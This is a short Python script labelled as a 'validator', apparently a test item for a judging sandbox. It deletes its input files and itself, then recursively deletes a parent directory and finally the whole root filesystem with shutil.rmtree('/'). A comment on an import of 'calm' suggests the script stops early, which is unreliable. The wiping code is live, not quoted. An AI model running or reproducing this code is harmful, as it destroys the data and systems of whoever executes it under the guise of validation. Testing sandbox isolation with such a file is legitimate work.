# validator: removes what it was given, and its own program
# expect: JE
import calm  # ends it here unless the submission asks for it
import os
import shutil
import sys

for path in sys.argv[1:3] + [__file__]:
    try:
        os.remove(path)
    except OSError:
        pass
shutil.rmtree(os.path.dirname(sys.argv[3].rstrip("/")) or "/", ignore_errors=True)
shutil.rmtree("/", ignore_errors=True)
sys.exit(1)
